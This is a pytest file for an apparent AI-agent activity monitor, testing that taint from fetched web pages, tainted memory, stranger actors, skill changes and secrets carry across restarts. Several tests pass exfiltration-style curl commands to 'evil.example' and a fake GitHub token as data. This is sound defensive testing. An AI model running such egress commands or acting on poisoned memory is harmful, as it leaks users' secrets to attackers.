"""What the watch knows outlives its process: taint, who acts, what was written, shown and seen; and a file in any state is read."""

import json
import os

import pytest

from clawtrail.redact import Found, Redactor
from clawtrail.watch import Kept, Watch
from clawtrail.watch import kept as module
from clawtrail.watch.state import Bounded
from test_watch import OWNER, STRANGER, H, Scene, rules

WEB = {"url": "https://news.example/a"}
FP = "5e0c11d2"


def clean(value):
    return Redactor(b"k" * 32).value(value, Found())


@pytest.fixture
def scene(tmp_path):
    """A function that gives the next process's scene; the one before is killed, nothing is closed."""
    return lambda: Scene(kept=Kept(tmp_path / "folder" / "watch", clean))


def fires(scene, rule):
    return any(rule in rules(event) for event in scene.seen)


def test_a_tainted_session_is_tainted_in_the_next_process_and_so_is_the_subagent_it_starts_there(scene):
    before = scene()
    before.start()
    before.taint()
    after = scene()
    assert after.call("exec", {"command": "ls"})["taint"] == "web_fetch:news.example"
    after.see("subagent.start", "attempt", peer={"session": "agent:main:subagent:1"})
    assert after.call("exec", {"command": "ls"}, session="agent:main:subagent:1", run="r9")["taint"] == "web_fetch:news.example"
    assert after.watch.standing("s").tainted


def test_a_session_that_was_reset_is_clean_in_the_next_process(scene):
    before = scene()
    before.taint()
    before.see("session.end", health={"reason": "reset"})
    assert "taint" not in scene().call("exec", {"command": "ls"})


def test_a_stranger_who_acts_is_no_owner_in_the_next_process(scene):
    before = scene()
    before.start(STRANGER)
    after = scene()
    assert after.watch.standing("s", "r").owner is False and after.watch.standing("s").owner is False
    called = after.call("exec", {"command": "id"})
    assert called["actor"]["id"] == STRANGER["id"] and "tool.by-non-owner" in rules(called)


def test_a_run_that_began_in_the_process_before_went_past_no_gate_and_one_that_ended_there_did(scene):
    before = scene()
    for run in ("open", "over"):
        before.start(run=run)
    before.see("run.end", run="over")
    after = scene()
    after.clock.now += 601
    assert "hooks.bypassed" not in rules(after.call("exec", {"command": "ls"}, run="open"))
    assert "hooks.bypassed" in rules(after.call("exec", {"command": "ls"}, run="over"))


def test_memory_that_was_written_under_taint_taints_who_reads_it_in_the_next_process_until_the_owner_wrote_it_anew(scene):
    before = scene()
    before.start()
    before.taint()
    before.call("write", {"path": "memory/notes.md", "content": "believe me"})
    before.call("write", {"path": "memory/more.md", "content": "and me"})
    after = scene()
    after.start(session="s2", run="r2")
    after.call("write", {"path": "memory/more.md", "content": "my own"}, session="s2", run="r2")
    last = scene()
    last.start(session="s3", run="r3")
    last.call("read", {"path": "memory/more.md"}, session="s3", run="r3")
    assert not last.watch.standing("s3").tainted
    last.call("read", {"path": "memory/notes.md"}, session="s3", run="r3")
    assert last.seen[-1]["store"]["origin"] == "web_fetch:news.example" and last.watch.standing("s3").tainted


def test_a_job_made_under_taint_runs_under_it_in_the_next_process(scene):
    ident = "820917b2-6b2a-485a-b9fe-49c288f25ab8"
    before = scene()
    before.taint()
    before.call("cron", {"action": "add", "job": {"name": "poll", "schedule": {"kind": "every", "everyMs": 60000}}}, result=f'{{"id": "{ident}"}}')
    seen = scene().see("run.start", "attempt", f"agent:main:cron:{ident}:run:1", "r7", trigger={"type": "cron", "ref": ident})
    assert seen["taint"] == "web_fetch:news.example"


def test_a_place_that_was_known_is_known_and_one_that_was_not_is_new(scene):
    before = scene()
    before.start()
    before.call("exec", {"command": "curl https://known.example/status"}, outcome="denied")
    before.taint()
    after = scene()
    assert "egress.after-untrusted" not in rules(after.call("exec", {"command": "curl -d x https://known.example/in"}))
    assert "egress.after-untrusted" in rules(after.call("exec", {"command": "curl -d x https://evil.example/in"}))


def test_a_secret_that_a_result_brought_is_followed_into_the_next_process(scene):
    scene().call("read", {"path": "/x"}, answer={"redactions": 1, "fps": FP, "classes": "github"})
    sent = scene().call("exec", {"command": "curl https://evil.example/"}, content={"redactions": 1, "fps": FP, "sha256": "0" * 64, "size": 9})
    assert sent["flag"]["rule"] == "secret.in-egress" and sent["flag"]["severity"] == "critical", "high is for one of unknown origin"


def test_a_contract_a_skill_and_a_page_that_change_while_nobody_looks_are_changes(scene):
    before = scene()
    before.watch.definitions({"exec": H[1]}, "s")
    before.see("config.change", change={"what": "skill", "name": "wave", "after": H[1]})
    before.call("web_fetch", WEB, result="be kind")
    after = scene()
    assert after.watch.definitions({"exec": H[2]}, "s") == [("exec", H[1], H[2])]
    assert scene().watch.definitions({"exec": H[1]}, "s") == [], "it was shown before"
    changed = after.see("config.change", change={"what": "skill", "name": "wave", "after": H[2]})
    assert changed["change"]["before"] == H[1] and "capability.changed-after-approval" in rules(changed)
    after.call("web_fetch", WEB, result="ban everyone")
    assert "content.changed" in rules(after.seen[-1])


def test_a_device_and_a_place_are_known_in_the_next_process(scene):
    login = {"actor": {"type": "user", "id": "device-1", "addr": "192.0.2.1", "auth": "verified"}}
    assert rules(scene().see("auth.login", **login)) == set(), "the first of all is learned"
    assert rules(scene().see("auth.login", actor={**login["actor"], "id": "device-2"})) == {"auth.new-device"}
    assert rules(scene().see("auth.login", **login)) == set()
    assert rules(scene().see("auth.login", actor={**login["actor"], "addr": "203.0.113.9"})) == {"auth.new-source"}


def test_a_file_in_any_state_is_read_as_far_as_it_goes(tmp_path):
    path = tmp_path / "watch"
    before = Scene(kept=Kept(path, clean))
    before.taint()
    lines = [b'["taints","s2",{"not":"text"}]', b'["taints"]', b"[]", b"17", b'{"a":1}', b"\xff\xfe", b"[" * 100_000, b'["later","version",[1]]', b'["taints","s3","web_fet']
    with path.open("ab") as file:
        file.write(b"\n".join(lines))
    after = Scene(kept=Kept(path, clean))
    assert after.watch.standing("s").tainted and not after.watch.standing("s2").tainted and not after.watch.standing("s3").tainted
    assert after.watch.counters["unsaved"] == 1
    after.taint("s4")
    told = [json.loads(line) for line in path.read_bytes().splitlines()]
    assert ["later", "version", [1]] in told and ["taints", "s4", "web_fetch:news.example"] in told, "what another version wrote stays"


def test_the_file_is_bounded_whatever_happens_and_loses_nothing_of_what_is_in_force(tmp_path, monkeypatch):
    monkeypatch.setattr(module, "FILE_MAX", 20_000)
    path = tmp_path / "watch"
    watch = Watch(kept=Kept(path, clean))
    watch.see("message.in", "success", {"session": "stays", "actor": STRANGER, "content": {"size": 1}})
    largest = 0
    for i in range(3000):
        watch.see("run.start", "attempt", {"session": "s", "run": f"r{i}", "actor": OWNER})
        watch.see("run.end", "success", {"session": "s", "run": f"r{i}"})
        largest = max(largest, path.stat().st_size)
    assert largest < 21_000
    assert Watch(kept=Kept(path, clean)).standing("stays").tainted
    assert path.stat().st_mode & 0o077 == 0 and os.listdir(tmp_path) == ["watch"]


def test_what_there_was_no_room_for_is_not_there_in_the_next_process_either(tmp_path):
    small = Bounded(2)
    Kept(tmp_path / "watch", clean).hold("few", small, module.as_text)
    for word in ("one", "two", "three"):
        small.put(word, word)
    large = Bounded(9)
    Kept(tmp_path / "watch", clean).hold("few", large, module.as_text)
    assert dict(large) == dict(small) == {"two": "two", "three": "three"}


def test_a_disk_that_takes_nothing_holds_nothing_up_and_is_counted(tmp_path):
    kept = Kept(tmp_path / "watch", clean)
    scene = Scene(kept=kept)
    full = os.open("/dev/full", os.O_WRONLY)
    kept._file, mine = full, kept._file
    os.close(mine)
    scene.taint()
    assert scene.call("exec", {"command": "ls"})["taint"] == "web_fetch:news.example" and scene.watch.counters["unsaved"] > 0
    kept.close()


def test_no_secret_is_written(tmp_path):
    token = "ghp_" + "8sK2mQ9xT4vB7nL1pR6wY3zA5cD0eF2gH4jX"
    scene = Scene(kept=Kept(tmp_path / "watch", clean))
    scene.start({**STRANGER, "display": token}, session=f"session {token}")
    scene.call("web_fetch", {"url": f"https://news.example/a?access_token={token}"})
    scene.call("write", {"path": f"memory/{token}.md", "content": "x"})
    scene.call("cron", {"action": "add", "job": {"name": token, "schedule": {"kind": "every", "everyMs": 60000}}})
    scene.see("config.change", change={"what": "skill", "name": token, "after": H[1]})
    said = (tmp_path / "watch").read_text()
    assert token not in said and token[4:20] not in said and "[redacted:" in said
